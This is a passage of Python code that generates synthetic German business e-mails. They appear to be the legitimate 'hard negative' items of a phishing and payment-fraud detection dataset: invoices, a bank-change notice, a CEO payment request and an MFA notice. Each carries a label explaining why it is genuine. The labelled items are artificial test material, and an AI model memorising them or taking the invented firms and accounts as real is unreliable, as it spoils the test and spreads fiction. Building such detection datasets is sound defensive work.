        ('Lieferant GmbH', 16, True), ('Am Lindener Hafen 21 · 30453 Hannover', 8, False), '',
        'Example Group GmbH', 'Konsul-Smidt-Straße 12', '28217 Bremen', '',
        ('Rechnung RE-2026-10388', 13, True), 'Rechnungsdatum: 05.10.2026    Lieferdatum: 02.10.2026',
        'Ihre Bestellung: 4500018125    Kunden-Nr.: 20417', '',
        'Pos  Menge   Artikel                                               Einzelpreis     Gesamt',
        '1    200 CT  Becher 7 oz Kraft, bedruckt "Example Coffee", 2.000 St.    79,60 EUR   15.920,00 EUR', '',
        'Nettobetrag                                                                     15.920,00 EUR',
        'USt 19 %                                                                         3.024,80 EUR',
        ('Rechnungsbetrag                                                               18.944,80 EUR', 10, True), '',
        'Zahlbar innerhalb 14 Tagen mit 2 % Skonto oder innerhalb 30 Tagen netto.',
        'Sparkasse Hannover · IBAN ' + grp(ACC['lieferant_old']) + ' · BIC SPKHDE2HXXX', '',
        (SIG_LIEF.replace('\n', ' · '), 7, False)],
        title='Rechnung RE-2026-10388', author='Lieferant GmbH', producer='Lexware PDF Export',
        creator='Lexware Warenwirtschaft pro', date='2026-10-05 13:58', tz='de')
    L.append(dict(
        n=1, lang='de', slug='lieferant-rechnung-xrechnung',
        what='Invoice RE-2026-10388 from Lieferant GmbH with PDF and XRechnung (CII XML), sent by their ERP.',
        why='Real supplier domain and mail server, ERP-generated mail, known bank account (Sparkasse Hannover, same as in the XML), matches an existing purchase order.',
        frm=('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.de'), to=[S('krueger')],
        subject='Rechnung RE-2026-10388 zu Ihrer Bestellung 4500018125', date='2026-10-05 14:02:11', tz='de',
        infra=('hosted_postfix', dict(LIEF_HOST, client_helo='erp01.lieferant.local', client_ip='10.10.1.20',
                                      client_rdns='erp01.lieferant.local', tls='tls12', auth='rechnungen@lieferant-gmbh.de',
                                      client='lexware', amavis=True)),
        charset='iso-8859-15', cte='quoted-printable', hcs='iso-8859-15', henc='Q',
        attachments=[inv, att_text('RE-2026-10388_xrechnung.xml', 'application/xml', _xrechnung())],
        text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung

Rechnungsnummer: RE-2026-10388
Rechnungsdatum: 05.10.2026
Ihre Bestellung: 4500018125
Rechnungsbetrag: 18.944,80 EUR

als PDF sowie als elektronische Rechnung im Format XRechnung (UN/CEFACT CII). Für Ihre Rechnungseingangsverarbeitung ist die XML-Datei maßgeblich.

Zahlbar innerhalb von 14 Tagen mit 2 %% Skonto oder innerhalb von 30 Tagen netto auf unser Konto bei der Sparkasse Hannover:
IBAN %s · BIC SPKHDE2HXXX

Bei Fragen zur Rechnung wenden Sie sich bitte an Frau Petra Lang, Tel. +49 511 4783-214.

Mit freundlichen Grüßen
Lieferant GmbH
Buchhaltung

%s

Diese E-Mail wurde automatisch aus unserem Warenwirtschaftssystem versendet.""" % (grp(ACC['lieferant_old']), SIG_LIEF),
    ))
    # ------------------------------------------------------------ 02
    letter = att_pdf('Lieferant_Bankverbindung_ab_01-12-2026_unterschrieben.pdf', [
        ('Lieferant GmbH', 16, True), ('Am Lindener Hafen 21 · 30453 Hannover · Tel. 0511 4783-0', 8, False), '',
        'An unsere Kunden', '', ('Hannover, 28.10.2026', 10, False, 420), '',
        ('Änderung unserer Bankverbindung zum 01.12.2026', 12, True), '',
        'Sehr geehrte Damen und Herren,', '',
        'wir führen unseren Zahlungsverkehr ab dem 01.12.2026 über die Commerzbank AG. Unsere neue Bankverbindung:', '',
        'Kontoinhaber: Lieferant GmbH', 'Kreditinstitut: Commerzbank AG, Filiale Hannover',
        'IBAN: ' + grp(ACC['lieferant_new']), 'BIC: COBADEFFXXX', '',
        'Das bisherige Konto bei der Sparkasse Hannover (IBAN ' + grp(ACC['lieferant_old']) + ')',
        'bleibt bis 31.03.2027 bestehen; Zahlungen dorthin werden weiterhin gutgeschrieben.', '',
        'Bitte verifizieren Sie diese Mitteilung telefonisch über die Ihnen bekannte Rufnummer unserer Zentrale.',
        'Wir werden Sie niemals per E-Mail auffordern, Zahlungen auf ein Konto im Ausland zu leisten.', '',
        'Mit freundlichen Grüßen', '', 'gez. Dr. Wolfgang Lieb            gez. Katrin Sommer',
        'Geschäftsführer                       Prokuristin, Leitung Finanzen', '', '',
        (SIG_LIEF.replace('\n', ' · '), 7, False)],
        title='Änderung Bankverbindung', author='Katrin Sommer', producer='Adobe PDF Library 24.3.159',
        creator='Acrobat PDFMaker 24 für Word', date='2026-10-28 15:40', tz='de')
    L.append(dict(
        n=2, lang='de', slug='lieferant-bankwechsel-echt-mit-rueckruf',
        pair=[2],
        what='Lieferant GmbH announces its genuine change of bank (Commerzbank Hannover, from 1 Dec), asks for verification by phone via the known switchboard number; signed letter attached.',
        why='Real domain and mail server, Petra Lang\'s usual Outlook; announced in advance by post, domestic bank, old account stays valid for months, explicitly asks for call-back verification. Hard negative of attack/02.',
        frm=('Petra Lang', 'p.lang@lieferant-gmbh.de'), to=[S('krueger')], cc=[('Katrin Sommer', 'k.sommer@lieferant-gmbh.de')],
        subject='Änderung unserer Bankverbindung zum 01.12.2026 – bitte telefonisch verifizieren',
        date='2026-11-02 09:30:44', tz='de',
        infra=('hosted_postfix', dict(LIEF_HOST, client_helo='NB-PLANG', client_ip='93.200.79.33',
                                      client_rdns='p5dc84f21.dip0.t-ipconnect.de', auth='p.lang@lieferant-gmbh.de',
                                      client='outlook16')),
        charset='windows-1252', cte='quoted-printable', html='outlook', hcs='windows-1252', henc='Q',
        attachments=[letter],
        text="""Sehr geehrte Frau Krüger,

wie in unserem Schreiben vom 28.10. per Post angekündigt, wechselt die Lieferant GmbH ihre Hausbank. Ab dem 01.12.2026 lautet unsere Bankverbindung:

Commerzbank AG, Filiale Hannover
IBAN %s
BIC COBADEFFXXX

Das bisherige Konto bei der Sparkasse Hannover bleibt bis zum 31.03.2027 parallel bestehen; Zahlungen dorthin werden weiterhin gutgeschrieben, es geht also nichts verloren.

Bitte verifizieren Sie die Änderung wie gewohnt durch einen Rückruf über die Ihnen bekannte Nummer unserer Zentrale (0511 4783-0) – wir bitten ausdrücklich darum, Bankdaten niemals allein aufgrund einer E-Mail zu ändern. Das von unserer Geschäftsführung unterschriebene Schreiben finden Sie nochmals im Anhang.

Vielen Dank und freundliche Grüße

Petra Lang
Debitorenbuchhaltung
Tel. +49 511 4783-214

Lieferant GmbH
Am Lindener Hafen 21 · 30453 Hannover
www.lieferant-gmbh.de""" % grp(ACC['lieferant_new']),
    ))
    # ------------------------------------------------------------ 03
    ab = att_pdf('AB-2026-20871.pdf', [
        ('Lieferant GmbH', 16, True), '', ('Auftragsbestätigung AB-2026-20871', 13, True),
        'zu Ihrer Bestellung 4500018342 vom 21.10.2026', '',
        '180.000 St.  Ventilbeutel 250 g Blockboden Kraft/Alu/PE, 4c "Bremer Röstung Classic"',
        ' 60.000 St.  Ventilbeutel 250 g Blockboden Kraft/Alu/PE, 4c "Espresso Hanse"', '',
        'Liefertermin: KW 44, Anlieferung 29.10.2026, Rampe 3', 'Preise gem. Rahmenvertrag 2026 · Zahlungsziel 30 Tage netto', '',
        (SIG_LIEF.replace('\n', ' · '), 7, False)],
        title='Auftragsbestätigung', author='Stefan Maier', producer='Lexware PDF Export',
        creator='Lexware Warenwirtschaft pro', date='2026-10-23 11:10', tz='de')
    L.append(dict(
        n=3, lang='de', slug='lieferant-auftragsbestaetigung-thread',
        pair=[3],
        what='Stefan Maier (Lieferant GmbH) confirms purchase order 4500018342 for valve bags, order confirmation PDF attached, quoting the buyer\'s order mail.',
        why='Real sender from his usual Outlook via Lieferant\'s own mail server from their Telekom line; attachment is a plain PDF; no link, no payment change. Hard negative of attack/03, which later hijacks this very thread.',
        frm=('Stefan Maier', 's.maier@lieferant-gmbh.de'), to=[S('hartmann')],
        subject='AW: Bestellung 4500018342 – Ventilbeutel 250 g, Liefertermin KW 44',
        date='2026-10-23 11:18:00', tz='de', message_id=STEFAN_VB_ID, in_reply_to=FELIX_VB_ID,
        infra=('hosted_postfix', dict(LIEF_HOST, client_helo='NB-SMAIER', client_ip='93.200.79.33',
                                      client_rdns='p5dc84f21.dip0.t-ipconnect.de', auth='s.maier@lieferant-gmbh.de',
                                      client='outlook16')),
        charset='iso-8859-1', cte='quoted-printable', html='outlook', hcs='iso-8859-1', henc='Q',
        attachments=[ab],
        text=STEFAN_VB_TEXT + '\n\n' + STEFAN_SIG + """

~~~~
Von: Felix Hartmann <felix.hartmann@example.com>
Gesendet: Mittwoch, 21. Oktober 2026 16:02
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: Bestellung 4500018342 – Ventilbeutel 250 g, Liefertermin KW 44

""" + FELIX_VB_TEXT,
    ))
    # ------------------------------------------------------------ 04
    L.append(dict(
        n=4, lang='de', slug='ceo-dringende-anzahlung-intern',
        pair=[1, 13, 19],
        what='The CEO urges the CFO (internal mail) to release today the contractual 20 % down payment for a green-coffee contract, already approved in the invoice workflow.',
        why='Internal Exchange -> mail-int01 path, CEO\'s real address; payment to a known supplier with unchanged master data, goes through the normal payment run and two-step approval. Hard negative of the CEO-fraud attacks 01/13/19 (same urgency, genuine process).',
        frm=S('koehler'), to=[S('weiss')], cc=[S('hartmann')],
        subject='Dringend: Anzahlung Rohkaffee-Kontrakt HRK-2026-118 heute freigeben',
        date='2026-10-08 13:05:27', tz='de',
        infra=('internal', {}), charset='iso-8859-1', cte='quoted-printable', html='outlook', hcs='iso-8859-1', henc='Q',
        text="""Hallo Sabine,

wie heute Morgen im Jour fixe besprochen: Der Kontrakt mit dem Hanseatischen Rohkaffee-Kontor über vier Container Brasil Santos NY 2/3 (Kontrakt HRK-2026-118) ist unterschrieben. Die Anzahlung von 20 % (61.200,00 EUR) ist laut Kontrakt heute fällig, sonst verfällt die Preisfixierung vom Montag.

Die Rechnung liegt in der Rechnungsfreigabe (Beleg 26-004187). Felix hat sachlich freigegeben, ich habe eben die zweite Freigabe erteilt. Die Bankverbindung ist die bekannte aus dem Kreditorenstamm, da hat sich nichts geändert.

Bitte nimm sie heute noch in den Nachmittagszahllauf. Falls etwas hakt, ruf mich an – ich bin bis 17 Uhr im Haus.

Danke!
Matthias

Matthias Köhler
Geschäftsführer / CEO
T +49 421 69 4410-100 · M +49 171 4423 918

""" + SIG_EG,
    ))
    # ------------------------------------------------------------ 05
    beitrag = att_pdf('VVD_Beitragsrechnung_2027_Mitglied_0417.pdf', [
        ('Vending-Verband Deutschland e.V.', 14, True), ('Friedrichstraße 95 · 10117 Berlin', 8, False), '',
        'Example Group GmbH', 'Konsul-Smidt-Straße 12', '28217 Bremen', '',
        ('Beitragsrechnung 2027', 13, True), 'Mitgliedsnummer: 0417    Rechnungsnummer: B-2027-0417', '',
        'Mitgliedsbeitrag 2027 (Beitragsklasse IV, Aufsteller > 5.000 Geräte)      4.850,00 EUR',
        'Der Beitrag ist nicht umsatzsteuerbar (echter Mitgliedsbeitrag).', '',
        'Fällig zum 31.01.2027. Bankverbindung: Sparkasse Bremen',
        'IBAN ' + grp(ACC['verband']) + ' · BIC SBREDE22XXX', '',
        ('Vereinsregister Amtsgericht Berlin-Charlottenburg VR 28841 B', 7, False)],
        title='Beitragsrechnung 2027', author='VVD Geschäftsstelle', producer='LibreOffice 24.8',
        creator='Writer', date='2026-12-14 09:50', tz='de')
    L.append(dict(
        n=5, lang='de', slug='verband-beitragsrechnung-2027',
        pair=[5],
        what='Annual membership invoice from the vending trade association.',
        why='Known association the company is a member of (membership number), German bank, due date in January, no pressure, plain text from Thunderbird via the association\'s hosted mail server. Hard negative of the fake directory invoice attack/05.',
        frm=('Vending-Verband Deutschland e.V.', 'beitrag@vending-verband.de'), to=[S('krueger')],
        subject='Beitragsrechnung 2027 – Mitgliedsnummer 0417', date='2026-12-14 10:12:37', tz='de',
        infra=('hosted_postfix', dict(host='dd41238.kasserver.com', ip='85.13.150.87', rdns='dd41238.kasserver.com',
                                      client_helo='[192.168.2.41]', client_ip='217.91.44.19',
                                      client_rdns='pd95b2c13.dip0.t-ipconnect.de', auth='beitrag@vending-verband.de',
                                      client='thunderbird', client_kw={'ua': 'Mozilla Thunderbird'})),
        charset='iso-8859-15', cte='8bit', hcs='iso-8859-15', henc='Q', cs_label='ISO-8859-15', quote_cs=False,
        attachments=[beitrag],
        text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie die Beitragsrechnung für das Jahr 2027 (Mitgliedsnummer 0417). Der Beitrag ist gemäß Beitragsordnung zum 31.01.2027 fällig. Wenn Sie uns ein SEPA-Lastschriftmandat erteilen möchten, genügt eine kurze Nachricht; das Formular senden wir Ihnen dann zu.

Bei Fragen zur Beitragseinstufung erreichen Sie mich dienstags bis donnerstags unter 030 2062 9918-12.

Mit freundlichen Grüßen

Claudia Behrens
Geschäftsstelle
Vending-Verband Deutschland e.V.
Friedrichstraße 95 · 10117 Berlin
www.vending-verband.de""",
    ))
    # ------------------------------------------------------------ 06
    L.append(dict(
        n=6, lang='de', slug='krankmeldung-von-privat',
        pair=[6],
        what='Sven Jansen (logistics) reports sick from his private GMX address; eAU is at the health insurer.',
        why='Known private address of the employee (used before, listed in the HR file), no data change or payment request, plausible context (no VPN from home), process-conform (eAU retrieval). Hard negative of payroll-diversion attack/06.',
        frm=('Sven Jansen', PRIVATE['jansen']), to=[S('schaefer')], cc=[S('jansen')],
        subject='Krankmeldung Sven Jansen', date='2026-11-09 07:41:20', tz='de',
        infra=('gmx', dict(client_ip='79.214.151.88')),
        charset='utf-8', cte='quoted-printable', hcs='UTF-8', henc='Q', cs_label='UTF-8',
        text="""Hallo Anja,

ich liege seit heute Nacht mit Fieber flach und war eben beim Hausarzt. Ich bin bis einschließlich Freitag krankgeschrieben, die eAU hat die Praxis an die Kasse übermittelt, ihr könnt sie wie üblich abrufen.

Ich schreibe von privat, weil ich von zu Hause gerade nicht ins VPN komme. Die Touren für heute und morgen hatte ich am Freitag noch mit Kai abgestimmt, die Disposition läuft. Die Anlieferung von Lieferant am 29.10. war ja schon, da ist nichts offen.

Viele Grüße
Sven""",
    ))
    # ------------------------------------------------------------ 07
    L.append(dict(
        n=7, lang='de', slug='it-hinweis-mfa-umstellung',
        pair=[7, 35],
        what='IT security announces the move to Microsoft Authenticator with number matching; users set it up themselves at aka.ms/mysecurityinfo; mail explicitly says IT never sends QR codes by e-mail.',
        why='Internal relay path from the real IT security admin, links only to Microsoft\'s genuine short link, no QR code, no deadline threat beyond a normal date, points to the internal helpdesk. Hard negative of the MFA/QR lures attack/07 and attack/35.',
        frm=S('oezdemir'), to_raw='Alle Mitarbeitenden Bremen <alle-bremen@example.com>', to=[('Alle Mitarbeitenden Bremen', 'alle-bremen@example.com')],
        rcpt='birgit.lorenz@example.com',
        subject='Umstellung der Anmeldung auf Microsoft Authenticator (Number Matching) bis 30.11.',
        date='2026-11-17 10:00:12', tz='de',
        infra=('internal', dict(client_ip='10.20.40.52')), charset='utf-8', cte='quoted-printable', html='outlook',
        hcs='utf-8', henc='Q',
        text="""Liebe Kolleginnen und Kollegen,

bis zum 30.11. stellen wir die Mehrstufige Authentifizierung für Microsoft 365 vollständig auf die App Microsoft Authenticator mit Nummernabgleich um. SMS- und Anrufbestätigungen werden danach abgeschaltet.

So richten Sie die App ein:
- Melden Sie sich am Firmenrechner im Browser unter https://aka.ms/mysecurityinfo an.
- Wählen Sie "Anmeldemethode hinzufügen" und "Authenticator-App".
- Den QR-Code, der dabei auf dem Bildschirm erscheint, scannen Sie mit der App auf Ihrem Diensthandy.

Wichtig: Die IT verschickt niemals QR-Codes per E-Mail, und wir fordern Sie nie auf, einen Code aus einer E-Mail oder einem PDF zu scannen oder einen Anmeldecode an jemanden weiterzugeben. Wenn Ihnen so etwas begegnet, melden Sie die Nachricht bitte über den Button "Phishing melden" in Outlook.

Bei Fragen erreichen Sie den Helpdesk unter Durchwahl -240 oder per Ticket.

Viele Grüße
Lukas Özdemir
IT-Sicherheit / Mail-Administration
Example Group GmbH · T +49 421 69 4410-245""",
    ))
    # ------------------------------------------------------------ 08
    unsub = 'https://seu2.cleverreach.com/f/312877-318554/wcu/?e=felix.hartmann%40example.com&k=8f2b71c0'
    L.append(dict(
        n=8, lang='de', slug='newsletter-kaffeemarkt-cleverreach',
        what='Weekly green-coffee market newsletter (subscribed) sent via CleverReach with List-Unsubscribe.',
        why='Subscribed trade newsletter via a legitimate ESP, consistent List-Unsubscribe / List-Id / one-click headers, informational content only, links to the publisher\'s own site.',
        frm=('Kaffee-Markt Aktuell', 'newsletter@kaffeemarkt-aktuell.de'), to=[S('hartmann')],
        subject='Rohkaffee-Wochenbericht KW 46: Arabica bei 3,12 USD/lb, EUDR-Countdown läuft',
        date='2026-11-13 06:00:04', tz='de', env_from='bounce-312877-318554-felix.hartmann=example.com@crsend.com',
        infra=('esp_generic', dict(helo='mta22.crsend.com', ip='85.119.150.22',
                                   rp='bounce-312877-318554-felix.hartmann=example.com@crsend.com',
                                   extra=[('List-Unsubscribe', '<%s>, <mailto:unsubscribe-312877-318554@crsend.com>' % unsub),
                                          ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'),
                                          ('List-Id', '<312877.318554.crsend.com>'), ('Precedence', 'bulk'),
                                          ('X-CSA-Complaints', 'csa-complaints@eco.de'),
                                          ('Feedback-ID', '318554:312877:cleverreach')],
                                   client='cleverreach', client_kw={'msgdomain': 'crsend.com'})),
        charset='utf-8', cte='quoted-printable', html='brand', hcs='utf-8', henc='Q', plain_link='paren',
        brand=dict(brand='Kaffee-Markt Aktuell', color='#5b3a1e', title='Rohkaffee-Wochenbericht KW 46',
                   footer='Sie erhalten diesen Newsletter, weil Sie ihn unter kaffeemarkt-aktuell.de abonniert haben.\n[[Newsletter abbestellen|%s]] · Impressum: Kaffee-Markt Aktuell, Verlag Brook & Söhne GmbH, Hamburg' % unsub,
                   pixel='https://seu2.cleverreach.com/mo/8f2b71c0/318554'),
        text="""Guten Morgen,

hier die wichtigsten Entwicklungen der Woche:

**Arabica:** Der März-Kontrakt an der ICE schloss am Donnerstag bei 3,12 USD/lb (+4 %% zur Vorwoche). Händler verweisen auf die schwächer als erwartet ausgefallene Blüte in Minas Gerais und niedrige zertifizierte Lagerbestände.

**Robusta:** Vietnam meldet einen schleppenden Erntebeginn im zentralen Hochland; der Januar-Kontrakt in London notierte bei 4.410 USD/t.

**EUDR:** Bis zur Anwendung der Entwaldungsverordnung für große Marktteilnehmer am 30.12.2026 bleiben sieben Wochen. Die BLE hat ihre FAQ zur Sorgfaltserklärung im TRACES-Informationssystem aktualisiert – wichtig für alle, die Rohkaffee aus Erstverarbeitung importieren.

[[Zum vollständigen Wochenbericht|https://www.kaffeemarkt-aktuell.de/wochenbericht/2026-kw46]]

Ihre Redaktion Kaffee-Markt Aktuell""".replace('%%', '%'),
    ))
    return L
